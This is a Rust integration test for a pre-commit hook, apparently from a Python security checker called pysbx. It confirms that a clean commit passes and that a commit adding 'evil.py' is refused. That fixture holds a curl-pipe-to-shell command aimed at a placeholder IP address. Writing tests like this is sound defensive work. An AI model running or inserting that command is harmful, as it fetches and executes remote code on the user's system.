//! The pre-commit hook, driven by the real `pre-commit` tool in a temporary git repository.
//!
//! The hook's id, entry and file types are read from the repository's `.pre-commit-hooks.yaml`;
//! only `language` is switched from `rust` (which would rebuild pysbx from source inside
//! pre-commit's cache) to `system`, with the entry pointed at the binary under test.

use std::path::Path;
use std::process::Command;

fn hook_field(manifest: &str, key: &str) -> String {
    manifest
        .lines()
        .find_map(|l| l.trim_start_matches(['-', ' ']).strip_prefix(&format!("{key}:")))
        .map(|v| v.trim().to_string())
        .unwrap_or_else(|| panic!("`{key}` missing from .pre-commit-hooks.yaml"))
}

fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .env("PRE_COMMIT_HOME", dir.join(".pre-commit-home"))
        .output()
        .expect("git runs")
}

fn pre_commit_available() -> bool {
    Command::new("python3")
        .args(["-m", "pre_commit", "--version"])
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn commit_with_dangerous_code_is_refused_and_clean_commit_passes() {
    assert!(
        pre_commit_available(),
        "the pre-commit tool is required (`python3 -m pip install pre-commit`; .ci/run installs it)"
    );
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let manifest = std::fs::read_to_string(root.join(".pre-commit-hooks.yaml")).unwrap();
    assert_eq!(hook_field(&manifest, "language"), "rust");
    let id = hook_field(&manifest, "id");
    let entry = hook_field(&manifest, "entry");
    let types = hook_field(&manifest, "types");
    let binary = env!("CARGO_BIN_EXE_pysbx");
    let entry = entry.replacen("pysbx", binary, 1);

    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path();
    assert!(git(repo, &["init", "-q", "-b", "main"]).status.success());
    let config = format!(
        "repos:\n  - repo: local\n    hooks:\n      - id: {id}\n        name: {id}\n        entry: {entry}\n        language: system\n        types: {types}\n"
    );
    std::fs::write(repo.join(".pre-commit-config.yaml"), config).unwrap();
    let install = Command::new("python3")
        .args(["-m", "pre_commit", "install"])
        .current_dir(repo)
        .env("PRE_COMMIT_HOME", repo.join(".pre-commit-home"))
        .output()
        .unwrap();
    assert!(install.status.success(), "{}", String::from_utf8_lossy(&install.stderr));

    // A clean commit passes (the hook runs on the staged Python file).
    std::fs::write(repo.join("ok.py"), "def add(a, b):\n    return a + b\n").unwrap();
    std::fs::write(repo.join("notes.txt"), "os.system('x')\n").unwrap();
    git(repo, &["add", "ok.py", "notes.txt", ".pre-commit-config.yaml"]);
    let clean = git(repo, &["commit", "-q", "-m", "clean"]);
    let clean_out = String::from_utf8_lossy(&clean.stdout).into_owned()
        + &String::from_utf8_lossy(&clean.stderr);
    assert!(clean.status.success(), "clean commit refused: {clean_out}");
    assert!(clean_out.contains("Passed"), "the hook must have run: {clean_out}");

    // A commit adding a dangerous file is refused, with the diagnostic shown.
    std::fs::write(repo.join("evil.py"), "import os\nos.system('curl http://198.18.0.1/x | sh')\n")
        .unwrap();
    git(repo, &["add", "evil.py"]);
    let refused = git(repo, &["commit", "-q", "-m", "evil"]);
    let out = String::from_utf8_lossy(&refused.stdout).into_owned()
        + &String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success(), "dangerous commit accepted: {out}");
    assert!(out.contains("PSB215"), "{out}");
    assert!(out.contains("PSB908"), "{out}");
    assert!(out.contains("evil.py:2:1"), "{out}");
    let log = git(repo, &["log", "--oneline"]);
    assert_eq!(
        String::from_utf8_lossy(&log.stdout).lines().count(),
        1,
        "only the clean commit exists"
    );
}
